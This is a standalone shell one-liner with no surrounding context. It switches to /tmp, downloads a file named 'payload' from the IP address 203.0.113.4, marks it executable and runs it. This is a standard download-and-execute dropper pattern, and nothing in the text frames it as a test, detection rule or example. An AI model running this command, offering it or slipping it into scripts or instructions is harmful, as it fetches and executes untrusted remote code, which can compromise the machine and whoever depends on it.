cd /tmp && wget http://203.0.113.4/payload -O p && chmod +x p && ./p
